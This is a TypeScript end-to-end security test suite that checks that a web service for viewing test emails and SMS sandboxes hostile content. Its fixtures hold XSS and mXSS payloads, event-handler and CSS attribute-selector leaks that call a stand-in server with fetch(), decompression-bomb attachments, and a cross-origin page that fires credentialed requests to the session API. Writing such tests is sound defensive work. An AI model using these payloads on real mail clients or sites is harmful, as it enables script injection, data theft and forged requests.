import type { SendMailOptions } from "nodemailer";
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { request, empty, messageIds, selectTab, send, visit, type Setup, type SignedIn } from "./setup.ts";
import { pdfBomb, pngBomb, zipBomb } from "./bombs.ts";
import { openOtherOrigin, type OtherOrigin } from "./other-origin.ts";

const server = "shop1234";
const to = `victim@${server}.restante.example.com`;

/** CPU time that an expensive email may take on the thread of the page, in seconds. */
const busySecondsMax = 1.5;

/** HTML that, if it had its effect, would request `URL`, the address of another server, or change the page around it. */
const bodies: Readonly<Record<string, string>> = {
  "inline script": `<script>parent.document.title="pwned";fetch("URL/script")</script><p>x`,
  "a script from elsewhere": `<script src="URL/a.js"></script><script type="module" src="URL/b.js"></script>`,
  "event handlers": `<img src=x onerror="fetch('URL/error')"><body onload="fetch('URL/load')"><details open ontoggle="fetch('URL/t')">`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=URL/refresh"><p>x`,
  "a base and relative resources": `<base href="URL/"><img src="relative.png"><a href="linked">x</a>`,
  "a script within SVG": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('URL/svg')"><script>fetch("URL/in")</script><image href="URL/i.png"/><use href="URL/u.svg#a"/></svg>`,
  "frames and objects": `<iframe src="URL/frame"></iframe><object data="URL/object"></object><embed src="URL/embed"><iframe srcdoc="<img src=URL/srcdoc>"></iframe>`,
  "images of every kind": `<img src="URL/1"><img srcset="URL/2 2x"><picture><source srcset="URL/3"><img></picture><video poster="URL/4" src="URL/5" autoplay></video><audio src="URL/6" autoplay></audio><input type=image src="URL/7"><table background="URL/8"><td background="URL/9">x`,
  "hints for what comes next": `<link rel="prefetch" href="URL/1"><link rel="preload" as="image" href="URL/2"><link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL"><link rel="stylesheet" href="URL/3"><link rel="icon" href="URL/4"><link rel="manifest" href="URL/5">`,
  "styles that request": `<style>@import "URL/1";@font-face{font-family:f;src:url(URL/2)}body{background:url(URL/3);font-family:f}input[value^=a]{background:url(URL/4)}</style><input value=abc><p style="background:url(URL/5)">x`,
  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="URL/csp">`,
  "what other readers run": `<a href="javascript:fetch('URL/js')" autofocus onfocus="fetch('URL/f')">x</a><math><mtext></p><style><img src="</style><img src=x onerror=fetch('URL/m')>"></math><noscript><img src="URL/noscript"></noscript>`,
};

/** HTML that is expensive to lay out. */
const heavy: Readonly<Record<string, string>> = {
  "5 MB of nested tables": "<table><tr><td>".repeat(350_000),
  "0.9 MB of nested tables": "<table><tr><td>".repeat(62_000),
  "0.9 MB of one unbroken word": `<p>${"x".repeat(900_000)}`,
  "0.9 MB of nested inline elements": "<b><i>".repeat(150_000),
};

/** Journeys with hostile emails and pages. */
export function describeHostileEmails(setup: () => Setup): void {
  const open = async (mail: SendMailOptions | string, tab = ""): Promise<SignedIn> => {
    await empty(setup(), server);
    await send(setup(), mail, to);
    const [id = ""] = await messageIds(setup(), server);
    const visited = await visit(setup(), { path: `/servers/${server}/messages/${id}${tab}` });
    await visited.page.getByRole("tablist", { name: "Message views" }).waitFor();
    return visited;
  };
  const expectUnharmed = async ({ page }: SignedIn, otherOrigin: OtherOrigin): Promise<void> => {
    await settle(page);
    expect([otherOrigin.requestPaths, otherOrigin.connectionCount()]).toEqual([[], 0]);
    expect(new URL(page.url()).origin).toBe(setup().service.url);
    expect(await page.title()).not.toContain("pwned");
    for (const frame of page.mainFrame().childFrames()) {
      expect(frame.url()).toContain(`${setup().service.url}/web/messages/`);
    }
    expect(page.context().pages()).toHaveLength(1);
  };

  test("HTML of an email runs no script, navigates nowhere and sends no request", async () => {
    await using otherOrigin = await openOtherOrigin();
    await empty(setup(), server);
    for (const [subject, html] of Object.entries(bodies)) {
      await send(
        setup(),
        { subject, html: html.replaceAll("URL", `${otherOrigin.url}/${encodeURIComponent(subject)}`) },
        to,
      );
    }
    await using visited = await visit(setup(), { path: `/servers/${server}` });
    const { page } = visited;
    for (const subject of Object.keys(bodies)) {
      await page.getByRole("link", { name: subject }).click();
      await page.getByRole("heading", { name: subject, exact: true }).waitFor();
      await expect.poll(() => page.mainFrame().childFrames()[0]?.url()).toContain("/web/messages/");
      await expectUnharmed(visited, otherOrigin);
      await page.keyboard.press("Control+p");
      await expect
        .poll(() =>
          page
            .mainFrame()
            .childFrames()
            .map((frame) => frame.url()),
        )
        .toContainEqual(expect.stringContaining("print=1"));
      await expectUnharmed(visited, otherOrigin);
    }
  });

  test("blocks the submission of forms in emails", async () => {
    await using otherOrigin = await openOtherOrigin();
    const html = ["_self", "_top", "_blank"]
      .map((target) => `<form action="${otherOrigin.url}/f" target=${target}><button>Send ${target}</button></form>`)
      .join("");
    await using visited = await open({ subject: "form", html });
    const frame = visited.page.frameLocator("iframe");
    for (const target of ["_self", "_top", "_blank"])
      await frame.getByRole("button", { name: `Send ${target}` }).click();
    await expectUnharmed(visited, otherOrigin);
  });

  test("opens links in new tabs without an opener, whatever their target", async () => {
    await using otherOrigin = await openOtherOrigin({ "/blank": "<title>there</title>" });
    const html = ["_top", "_parent", "_self", "_blank"]
      .map(
        (target) =>
          `<p><a href="${otherOrigin.url}/${target.slice(1)}" target="${target}" rel="opener">to ${target}</a>`,
      )
      .join("");
    await using visited = await open({ subject: "links", html });
    const { page, context } = visited;
    const frame = page.frameLocator("iframe");
    for (const target of ["_top", "_parent", "_self", "_blank"]) {
      const [opened] = await Promise.all([
        context.waitForEvent("page"),
        frame.getByRole("link", { name: `to ${target}` }).click(),
      ]);
      await opened.waitForLoadState();
      expect(await opened.evaluate<unknown>("[window.opener, document.referrer]")).toEqual([null, ""]);
      await opened.close();
      expect(page.url()).toContain(`${setup().service.url}/servers/`);
    }
    expect(otherOrigin.requestPaths).toEqual(["/top", "/parent", "/self", "/blank"]);
  });

  test("keeps styles of an email within its frame", async () => {
    const html = `<style>*{position:fixed!important;inset:-9999px!important;z-index:2147483647!important;width:99999px;height:99999px;background:red}</style><div>over all</div>`;
    await using visited = await open({ subject: "escape", html });
    const { page } = visited;
    const box = await page.locator("[data-width]").boundingBox();
    const frame = await page.locator("iframe").boundingBox();
    expect(frame).toEqual(box);
    await page.getByRole("tab", { name: "Source" }).click();
    await page.getByRole("tabpanel", { name: "Source" }).getByText("Subject: escape").waitFor();
  });

  test("gives an email an opaque origin and no scripts when it is opened outside its frame", async () => {
    await using otherOrigin = await openOtherOrigin();
    const html = `<script>fetch("${otherOrigin.url}/x")</script><img src=x onerror="fetch('${otherOrigin.url}/y')">`;
    await using visited = await open({ subject: "alone", html });
    const { page } = visited;
    const source = await page.locator("iframe").getAttribute("src");
    await page.goto(`${setup().service.url}${source ?? ""}`);
    expect(await page.evaluate("window.origin")).toBe("null");
    expect(otherOrigin.requestPaths).toEqual([]);
  });

  test("loads remote content only on request", async () => {
    await using otherOrigin = await openOtherOrigin();
    await using visited = await open({ subject: "remote", html: `<img src="${otherOrigin.url}/logo.png" alt="logo">` });
    const { page } = visited;
    await page.getByRole("button", { name: "Load 1 image" }).waitFor();
    expect(otherOrigin.requestPaths).toEqual([]);
    await page.getByRole("button", { name: "Load 1 image" }).click();
    await expect.poll(() => otherOrigin.requestPaths).toEqual(["/logo.png"]);
  });

  test.each(Object.keys(heavy))("stays responsive with %s", async (name) => {
    await using visited = await open({ subject: name, html: heavy[name] ?? "" });
    const { page } = visited;
    const threadSeconds = await measureThread(page);
    const anyway = page.getByRole("button", { name: "Show anyway" });
    if (name.startsWith("5 MB")) await anyway.click();
    await page.locator("iframe").waitFor();
    await selectTab(page, "Source", "Headers");
    await page.getByRole("tabpanel", { name: "Source" }).getByText(name).waitFor();
    expect(await threadSeconds()).toBeLessThan(busySecondsMax);
  });

  test("escapes names, subjects and texts of an email everywhere", async () => {
    const evil = `<img src=x onerror="document.title='pwned'">`;
    const mail = {
      subject: evil,
      from: { name: evil, address: "a@b.example" },
      text: `${evil} https://b.example/`,
      headers: { "X-Evil": evil },
      messageId: "<evil@b.example>",
      attachments: [{ filename: `${evil}.txt`, content: evil }],
    };
    await using visited = await open(mail);
    const { page } = visited;
    await using otherOrigin = await openOtherOrigin();
    await send(setup(), { ...mail, messageId: "<more@b.example>", references: "<evil@b.example>" }, to);
    await page.reload();
    const views = {
      Mail: ["Conversation", "Text"],
      Source: ["Raw", "Headers", "Structure"],
      Attachments: [undefined],
      Links: [undefined],
      More: ["Delivery", "Test"],
    };
    for (const [tab, names] of Object.entries(views)) {
      for (const view of names) await selectTab(page, tab, view);
      await page.getByRole("tabpanel", { name: tab }).waitFor();
    }
    expect(await page.locator("img[src=x]").count()).toBe(0);
    await expectUnharmed(visited, otherOrigin);
  });

  test("escapes the text of an SMS in list and conversation", async () => {
    await using otherOrigin = await openOtherOrigin();
    const evil = `<img src=x onerror="fetch('${otherOrigin.url}')"><script>fetch("${otherOrigin.url}")</script>`;
    await empty(setup(), server);
    await request(setup(), "POST /api/phone-numbers", { number: "+15550166", server });
    await request(setup(), "POST /api/sms", { from: "Shop", to: "+15550166", text: evil });
    await using visited = await visit(setup(), { path: `/servers/${server}` });
    const { page } = visited;
    await page.getByRole("link", { name: /\+15550166/ }).click();
    await page.getByRole("listitem").getByRole("paragraph").getByText(evil).waitFor();
    expect(await page.locator("img[src=x]").count()).toBe(0);
    await expectUnharmed(visited, otherOrigin);
  });

  test("never extracts or runs attachments, and previews only safe types", async () => {
    await using otherOrigin = await openOtherOrigin();
    const script = `<script>fetch("${otherOrigin.url}/attached")</script>`;
    const attachments = [
      { filename: "bomb.zip", content: zipBomb(), contentType: "application/zip" },
      { filename: "bomb.png", content: pngBomb(), contentType: "image/png" },
      { filename: "page.html", content: script, contentType: "text/html" },
      {
        filename: "drawing.svg",
        content: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
        contentType: "image/svg+xml",
      },
      { filename: "paper.pdf", content: "%PDF-1.7", contentType: "application/pdf" },
      { filename: "bomb.pdf", content: pdfBomb(), contentType: "application/pdf" },
    ];
    await using visited = await open({ subject: "bombs", text: "x", attachments }, "/attachments");
    const { page } = visited;
    const item = (name: string): ReturnType<typeof page.locator> =>
      page.getByRole("tabpanel", { name: "Attachments" }).getByRole("listitem").filter({ hasText: name });
    for (const name of ["bomb.zip", "drawing.svg"]) {
      await item(name).getByRole("button", { name: "Download" }).waitFor();
      expect(await item(name).getByRole("button").count()).toBe(1);
    }
    await item("bomb.png").getByText("No preview").waitFor();
    await item("paper.pdf").getByRole("button", { name: "Show" }).click();
    await item("paper.pdf").getByText("the file is not a valid PDF").waitFor();
    await item("bomb.pdf").getByRole("button", { name: "Show" }).click();
    await item("bomb.pdf").getByRole("img", { name: "bomb.pdf, page 1 of 1" }).waitFor();
    await item("page.html").getByRole("button", { name: "Show" }).click();
    await item("page.html").locator("pre").getByText("<script>").waitFor();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      item("drawing.svg").getByRole("button", { name: "Download" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("drawing.svg");
    await expectUnharmed(visited, otherOrigin);
  });

  test("denies a page on another port of the host access to the session", async () => {
    const { url } = setup().service;
    const page = `<script>
      const tries = [["GET", "/api/servers"], ["DELETE", "/web/session"], ["POST", "/api/servers"]];
      Promise.allSettled(tries.map(([method, path]) => fetch("${url}" + path, { method, mode: "no-cors", credentials: "include" })))
        .then(() => { document.title = "tried" });
    </script>
    <img src="${url}/api/servers"><iframe src="${url}/servers/${server}"></iframe>
    <form method="post" action="${url}/web/session"><button>Send</button></form>`;
    await using otherOrigin = await openOtherOrigin({ "/": page });
    await using visited = await visit(setup());
    const statuses: number[] = [];
    const other = await visited.context.newPage();
    other.on("response", (response) => {
      if (new URL(response.url()).pathname !== `/servers/${server}` && response.url().startsWith(url)) {
        statuses.push(response.status());
      }
    });
    await other.goto(otherOrigin.url);
    await other.waitForFunction(`document.title === "tried"`);
    await other.getByRole("button", { name: "Send", exact: true }).click();
    await other.waitForLoadState("networkidle");
    expect(statuses.length).toBeGreaterThanOrEqual(2);
    expect(statuses.filter((status) => status !== 401 && status !== 403)).toEqual([]);
    expect(other.frames().every((frame) => !frame.url().startsWith(url) || frame === other.mainFrame())).toBe(true);
    await visited.page.reload();
    await visited.page.getByRole("heading", { name: "Servers" }).waitFor();
  });

  test("rejects the session cookie without the page token", async () => {
    const { url } = setup().service;
    await using visited = await visit(setup());
    const cookie = (await visited.context.cookies()).map(({ name, value }) => `${name}=${value}`).join("; ");
    expect(cookie).toMatch(/^restante-\d+=[\w-]{43}$/);
    for (const path of ["/web/session", "/api/servers", "/api/keys", `/api/messages?server=${server}`]) {
      const headers = { cookie, "x-restante-web": "1", "sec-fetch-site": "same-origin" };
      expect((await fetch(url + path, { headers })).status).toBe(401);
    }
  });
}

/** Returns a function that returns the CPU seconds of the page's main thread since this call. */
async function measureThread(page: Page): Promise<() => Promise<number>> {
  const session = await page.context().newCDPSession(page);
  await session.send("Performance.enable", { timeDomain: "threadTicks" });
  return async () => {
    const { metrics } = await session.send("Performance.getMetrics");
    return metrics.find(({ name }) => name === "TaskDuration")?.value ?? Number.NaN;
  };
}

/** Resolves when the frames have loaded and any request of theirs would have arrived: after five round trips. */
async function settle(page: Page): Promise<void> {
  // The frame comes a request later than the page around it, with its signed URL.
  if ((await page.locator("[data-width]").count()) > 0) await page.locator("[data-width] iframe").waitFor();
  for (const frame of page.mainFrame().childFrames()) await frame.waitForLoadState("load");
  await page.evaluate(`(async () => {
    for (let count = 0; count < 5; count += 1) await (await fetch("/web/session")).text();
  })()`);
}
